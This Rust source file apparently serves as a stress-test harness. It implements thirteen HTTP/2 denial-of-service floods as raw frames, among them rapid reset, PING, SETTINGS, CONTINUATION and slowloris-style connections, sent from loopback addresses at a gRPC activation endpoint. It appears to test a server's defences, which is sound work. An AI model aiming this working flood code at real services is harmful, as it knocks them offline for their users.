//! Peers that mean a host harm: each attack as raw HTTP/2 frames, sent from many connections until it is dropped.
//!
//! An attacker whose connection is closed connects again at once. Each address of 127.0.0.0/8 is a source.

use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

/// What an HTTP/2 client says first, and its settings, which are empty.
pub const OPENING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Frames that are written together.
const AT_ONCE: usize = 64;

/// How long an attacker waits after a connection failed or was closed before it sent anything.
const REST: Duration = Duration::from_millis(20);

/// One way to harm a host.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Opens 256 calls on each connection, sends 30 bytes of each and waits.
    OpenCalls,
    /// Makes calls that are refused, and reads no answer.
    Unread,
    /// PING without end.
    Pings,
    /// SETTINGS without end.
    Settings,
    /// WINDOW_UPDATE without end.
    Windows,
    /// PRIORITY without end.
    Priorities,
    /// Calls that are reset at once.
    Resets,
    /// A call with empty data frames, without end.
    EmptyData,
    /// Headers without end.
    Continuations,
    /// Connections that open HTTP/2 and are silent.
    Silent,
    /// Connections that say one byte.
    OneByte,
    /// Calls that are no asks, as fast as they are refused.
    Noise,
    /// GET, as fast as it is answered.
    Gets,
}

impl Attack {
    /// All of them.
    pub const ALL: [Attack; 13] = [
        Attack::OpenCalls,
        Attack::Unread,
        Attack::Pings,
        Attack::Settings,
        Attack::Windows,
        Attack::Priorities,
        Attack::Resets,
        Attack::EmptyData,
        Attack::Continuations,
        Attack::Silent,
        Attack::OneByte,
        Attack::Noise,
        Attack::Gets,
    ];

    /// Its name, as it is typed.
    pub const fn name(self) -> &'static str {
        match self {
            Attack::OpenCalls => "open-calls",
            Attack::Unread => "unread",
            Attack::Pings => "pings",
            Attack::Settings => "settings",
            Attack::Windows => "windows",
            Attack::Priorities => "priorities",
            Attack::Resets => "resets",
            Attack::EmptyData => "empty-data",
            Attack::Continuations => "continuations",
            Attack::Silent => "silent",
            Attack::OneByte => "one-byte",
            Attack::Noise => "noise",
            Attack::Gets => "gets",
        }
    }

    /// How many connections make it, from how many addresses: what harmed a host before it had bounds.
    pub const fn size(self) -> (usize, u8) {
        match self {
            Attack::OpenCalls => (400, 4),
            Attack::Unread => (20, 2),
            Attack::Silent | Attack::OneByte => (6000, 2),
            _ => (50, 5),
        }
    }

    /// Attacks until it is dropped.
    pub async fn run(self, host: SocketAddr, connections: usize, addresses: u8) {
        let mut attackers = JoinSet::new();
        for nth in 0..connections {
            let address = u8::try_from(nth % usize::from(addresses.max(1))).unwrap_or(0);
            let from = IpAddr::V4(Ipv4Addr::new(127, 66, 0, 1 + address));
            attackers.spawn(async move {
                loop {
                    let _ = self.attack_once(from, host).await;
                    sleep(REST).await;
                }
            });
        }
        attackers.join_all().await;
    }

    /// On one connection, until it is closed.
    async fn attack_once(self, from: IpAddr, host: SocketAddr) -> io::Result<()> {
        let mut stream = connect(from, host, self == Attack::Unread).await?;
        if self == Attack::OneByte {
            stream.write_all(&OPENING[..1]).await?;
            return drain(&mut stream).await;
        }
        stream.write_all(OPENING).await?;
        let (mut read, mut write) = stream.into_split();
        let mut calls = (1..).step_by(2);
        match self {
            Attack::Silent => drain(&mut read).await,
            Attack::OpenCalls => {
                for call in calls.by_ref().take(256) {
                    write.write_all(&headers(call, "POST", false)).await?;
                    write.write_all(&frame(DATA, 0, call, &[7; 30])).await?;
                }
                drain(&mut read).await
            }
            Attack::Unread => loop {
                write.write_all(&refused_calls(calls.by_ref())).await?;
            },
            Attack::Noise => answered(&mut read, &mut write, || refused_calls(calls.by_ref().take(4))).await,
            Attack::Gets => {
                let mut get = || calls.by_ref().take(4).flat_map(|call| headers(call, "GET", true)).collect();
                answered(&mut read, &mut write, &mut get).await
            }
            _ => {
                write.write_all(&headers(1, "POST", false)).await?;
                let (beginning, mut repeated) = self.frames(&mut calls);
                write.write_all(&beginning).await?;
                tokio::select! {
                    ended = drain(&mut read) => ended,
                    ended = async { loop { write.write_all(&repeated()).await?; } } => ended,
                }
            }
        }
    }

    /// What comes once, and what comes again and again.
    fn frames<'c>(
        self,
        calls: &'c mut (impl Iterator<Item = u32> + Send),
    ) -> (Vec<u8>, Box<dyn FnMut() -> Vec<u8> + Send + 'c>) {
        let same = |one: Vec<u8>| -> (Vec<u8>, Box<dyn FnMut() -> Vec<u8> + Send>) {
            let many = one.repeat(AT_ONCE);
            (Vec::new(), Box::new(move || many.clone()))
        };
        match self {
            Attack::Pings => same(frame(PING, 0, 0, b" alive? ")),
            Attack::Settings => same(frame(SETTINGS, 0, 0, &[])),
            Attack::Windows => same(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
            Attack::Priorities => same(frame(PRIORITY, 0, 7, &[0, 0, 0, 0, 16])),
            Attack::EmptyData => same(frame(DATA, 0, 1, &[])),
            Attack::Continuations => {
                let more = frame(CONTINUATION, 0, 3, &header("x", "y")).repeat(AT_ONCE);
                let mut beginning = headers(3, "POST", false);
                beginning[4] = 0;
                (beginning, Box::new(move || more.clone()))
            }
            _ => {
                let mut calls = calls.skip(1);
                let one =
                    move |call| [headers(call, "POST", false), frame(RESET, 0, call, &[0, 0, 0, 8])].concat();
                (Vec::new(), Box::new(move || calls.by_ref().take(AT_ONCE).flat_map(one).collect()))
            }
        }
    }
}

impl std::str::FromStr for Attack {
    type Err = String;

    fn from_str(name: &str) -> Result<Attack, String> {
        let known = Attack::ALL.map(Attack::name).join(", ");
        let found = Attack::ALL.into_iter().find(|attack| attack.name() == name);
        found.ok_or_else(|| format!("{name:?} is none of {known}"))
    }
}

/// A connection from this address of this machine, which stands for another one.
///
/// # Errors
/// The connection is not accepted.
pub async fn connect(from: IpAddr, host: SocketAddr, reads_little: bool) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if reads_little {
        socket.set_recv_buffer_size(4096)?;
    }
    socket.bind(SocketAddr::new(from, 0))?;
    socket.connect(host).await
}

/// A frame as it stands on the wire (RFC 9113 4.1).
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame of ours is short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The headers of an ask, and no byte of what they are about.
pub fn headers(stream: u32, method: &str, ends: bool) -> Vec<u8> {
    let block = [
        header(":method", method),
        header(":scheme", "http"),
        header(":path", "/kms.v1.ActivationService/Activate"),
        header(":authority", "host"),
        header("content-type", "application/grpc"),
        header("te", "trailers"),
    ];
    frame(HEADERS, END_HEADERS | if ends { END_STREAM } else { 0 }, stream, &block.concat())
}

/// A header under a name that is in no table (RFC 7541 6.2.2).
fn header(name: &str, value: &str) -> Vec<u8> {
    let length = |text: &str| u8::try_from(text.len()).expect("a header of ours is short");
    [&[0, length(name)], name.as_bytes(), &[length(value)], value.as_bytes()].concat()
}

/// Calls without a message.
fn refused_calls(calls: impl Iterator<Item = u32>) -> Vec<u8> {
    let noise =
        |call| [headers(call, "POST", false), frame(DATA, END_STREAM, call, b"\0\0\0\0\x03\xff\xff\xff")];
    calls.take(AT_ONCE).flat_map(|call| noise(call).concat()).collect()
}

/// Sends the next as soon as there is an answer to the last.
async fn answered(
    read: &mut (impl AsyncRead + Unpin),
    write: &mut (impl AsyncWrite + Unpin),
    mut next: impl FnMut() -> Vec<u8>,
) -> io::Result<()> {
    let mut heard = vec![0; 64 * 1024];
    loop {
        write.write_all(&next()).await?;
        let answer = timeout(Duration::from_secs(1), read.read(&mut heard)).await;
        if matches!(answer, Ok(Ok(0) | Err(_))) {
            return Ok(());
        }
    }
}

async fn drain(read: &mut (impl AsyncRead + Unpin)) -> io::Result<()> {
    let mut heard = vec![0; 4096];
    while read.read(&mut heard).await? != 0 {}
    Ok(())
}
